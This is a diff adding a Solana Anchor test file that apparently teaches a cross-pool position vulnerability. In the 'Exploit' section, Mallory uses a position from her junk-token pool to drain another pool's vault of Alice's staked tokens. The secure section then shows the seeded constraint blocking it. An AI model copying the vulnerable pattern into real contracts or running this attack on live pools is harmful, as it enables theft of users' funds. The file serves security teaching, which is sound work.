@@ -0,0 +1,221 @@
+import * as anchor from "@coral-xyz/anchor";
+import { Program } from "@coral-xyz/anchor";
+import { TOKEN_PROGRAM_ID, createAccount, createMint, getAccount, mintTo } from "@solana/spl-token";
+import { Keypair, LAMPORTS_PER_SOL, PublicKey, SystemProgram } from "@solana/web3.js";
+import { expect } from "chai";
+import { expectError } from "../../../tests/utils";
+
+describe("75: Cross-Pool Position", () => {
+    const provider = anchor.AnchorProvider.env();
+    anchor.setProvider(provider);
+
+    const program = anchor.workspace.CrossPoolPosition as Program<any>;
+
+    let admin: Keypair;
+    let alice: Keypair;
+    let mallory: Keypair;
+    let valuableMint: PublicKey;
+    let junkMint: PublicKey;
+    let aliceValuable: PublicKey;
+    let malloryValuable: PublicKey;
+    let malloryJunk: PublicKey;
+
+    // Pool A is Mallory's junk-mint pool; pool B is the real one
+    const POOL_A = 1;
+    const POOL_B = 2;
+    const STAKE = 100_000_000;
+
+    function poolPda(id: number): PublicKey {
+        return PublicKey.findProgramAddressSync(
+            [Buffer.from("pool"), new anchor.BN(id).toArrayLike(Buffer, "le", 8)],
+            program.programId
+        )[0];
+    }
+
+    function vaultPda(id: number): PublicKey {
+        return PublicKey.findProgramAddressSync([Buffer.from("vault"), poolPda(id).toBuffer()], program.programId)[0];
+    }
+
+    function positionPda(id: number, owner: PublicKey): PublicKey {
+        return PublicKey.findProgramAddressSync(
+            [Buffer.from("position"), poolPda(id).toBuffer(), owner.toBuffer()],
+            program.programId
+        )[0];
+    }
+
+    async function createPool(id: number, mint: PublicKey, creator: Keypair) {
+        await program.methods
+            .createPool(new anchor.BN(id))
+            .accounts({
+                pool: poolPda(id),
+                vault: vaultPda(id),
+                stakeMint: mint,
+                creator: creator.publicKey,
+                tokenProgram: TOKEN_PROGRAM_ID,
+                systemProgram: SystemProgram.programId,
+            })
+            .signers([creator])
+            .rpc();
+    }
+
+    async function openAndStake(id: number, owner: Keypair, source: PublicKey, amount: number) {
+        await program.methods
+            .openPosition()
+            .accounts({
+                pool: poolPda(id),
+                position: positionPda(id, owner.publicKey),
+                owner: owner.publicKey,
+                systemProgram: SystemProgram.programId,
+            })
+            .signers([owner])
+            .rpc();
+        await program.methods
+            .stake(new anchor.BN(amount))
+            .accounts({
+                pool: poolPda(id),
+                vault: vaultPda(id),
+                position: positionPda(id, owner.publicKey),
+                source,
+                owner: owner.publicKey,
+                tokenProgram: TOKEN_PROGRAM_ID,
+            })
+            .signers([owner])
+            .rpc();
+    }
+
+    function unstake(
+        method: "vulnerableUnstake" | "secureUnstake",
+        poolId: number,
+        position: PublicKey,
+        destination: PublicKey,
+        owner: Keypair,
+        amount: number
+    ) {
+        return program.methods[method](new anchor.BN(amount))
+            .accounts({
+                pool: poolPda(poolId),
+                vault: vaultPda(poolId),
+                position,
+                destination,
+                owner: owner.publicKey,
+                tokenProgram: TOKEN_PROGRAM_ID,
+            })
+            .signers([owner])
+            .rpc();
+    }
+
+    async function tokenBalance(account: PublicKey): Promise<number> {
+        return Number((await getAccount(provider.connection, account)).amount);
+    }
+
+    before(async () => {
+        admin = Keypair.generate();
+        alice = Keypair.generate();
+        mallory = Keypair.generate();
+
+        for (const kp of [admin, alice, mallory]) {
+            const sig = await provider.connection.requestAirdrop(kp.publicKey, 10 * LAMPORTS_PER_SOL);
+            await provider.connection.confirmTransaction(sig);
+        }
+
+        valuableMint = await createMint(provider.connection, admin, admin.publicKey, null, 6);
+        junkMint = await createMint(provider.connection, mallory, mallory.publicKey, null, 6);
+
+        aliceValuable = await createAccount(provider.connection, alice, valuableMint, alice.publicKey);
+        malloryValuable = await createAccount(provider.connection, mallory, valuableMint, mallory.publicKey);
+        malloryJunk = await createAccount(provider.connection, mallory, junkMint, mallory.publicKey);
+
+        await mintTo(provider.connection, admin, valuableMint, aliceValuable, admin, 2 * STAKE);
+        await mintTo(provider.connection, mallory, junkMint, malloryJunk, mallory, STAKE);
+    });
+
+    describe("Setup: two pools side by side", () => {
+        it("The admin opens pool B for the valuable mint; Alice stakes", async () => {
+            await createPool(POOL_B, valuableMint, admin);
+            await openAndStake(POOL_B, alice, aliceValuable, STAKE);
+            expect(await tokenBalance(vaultPda(POOL_B))).to.equal(STAKE);
+        });
+
+        it("Mallory opens pool A for a self-minted junk token and stakes", async () => {
+            await createPool(POOL_A, junkMint, mallory);
+            await openAndStake(POOL_A, mallory, malloryJunk, STAKE);
+
+            const position = await program.account.position.fetch(positionPda(POOL_A, mallory.publicKey));
+            expect(position.pool.toString()).to.equal(poolPda(POOL_A).toString());
+            expect(position.amount.toNumber()).to.equal(STAKE);
+        });
+    });
+
+    describe("Exploit: pool B accepts pool A's position", () => {
+        it("Mallory unstakes from pool B with the junk-pool position", async () => {
+            await unstake(
+                "vulnerableUnstake",
+                POOL_B,
+                positionPda(POOL_A, mallory.publicKey),
+                malloryValuable,
+                mallory,
+                STAKE
+            );
+
+            const stolen = await tokenBalance(malloryValuable);
+            console.log(`  Mallory withdrew ${stolen} valuable tokens against ${STAKE} junk tokens staked in pool A`);
+            expect(stolen).to.equal(STAKE);
+            expect(await tokenBalance(vaultPda(POOL_B))).to.equal(0);
+            expect(await tokenBalance(vaultPda(POOL_A))).to.equal(STAKE);
+        });
+    });
+
+    describe("Secure: position bound to its pool", () => {
+        // Alice restakes so pool B's vault has something to protect
+        before(async () => {
+            await program.methods
+                .stake(new anchor.BN(STAKE))
+                .accounts({
+                    pool: poolPda(POOL_B),
+                    vault: vaultPda(POOL_B),
+                    position: positionPda(POOL_B, alice.publicKey),
+                    source: aliceValuable,
+                    owner: alice.publicKey,
+                    tokenProgram: TOKEN_PROGRAM_ID,
+                })
+                .signers([alice])
+                .rpc();
+        });
+
+        it("Rejects pool A's position in pool B", async () => {
+            await expectError(
+                unstake("secureUnstake", POOL_B, positionPda(POOL_A, mallory.publicKey), malloryValuable, mallory, 1),
+                "ConstraintSeeds"
+            );
+        });
+
+        it("Rejects Alice's pool B position when Mallory signs", async () => {
+            await expectError(
+                unstake("secureUnstake", POOL_B, positionPda(POOL_B, alice.publicKey), malloryValuable, mallory, 1),
+                "ConstraintSeeds"
+            );
+        });
+
+        it("Alice unstakes from the pool she staked in", async () => {
+            await unstake("secureUnstake", POOL_B, positionPda(POOL_B, alice.publicKey), aliceValuable, alice, STAKE);
+            expect(await tokenBalance(aliceValuable)).to.equal(STAKE);
+        });
+    });
+
+    describe("Security Comparison", () => {
+        it("Demonstrates the core difference", () => {
+            console.log("\n=== Cross-Pool Position ===\n");
+
+            console.log("VULNERABLE PATTERN:");
+            console.log("  #[account(mut, has_one = owner)] pub position: Account<'info, Position>,  // any pool's position");
+            console.log("  Risk: a position staked in a junk-mint pool withdraws from a valuable pool's vault\n");
+
+            console.log("SECURE PATTERN:");
+            console.log("  seeds = [b\"position\", pool.key(), owner.key()], has_one = pool, has_one = owner");
+            console.log("  Protection: a position can only withdraw from the pool it was staked in\n");
+
+            console.log("KEY INSIGHT:");
+            console.log("  Deserializing as the right type proves nothing about which parent account it belongs to.");
+        });
+    });
+});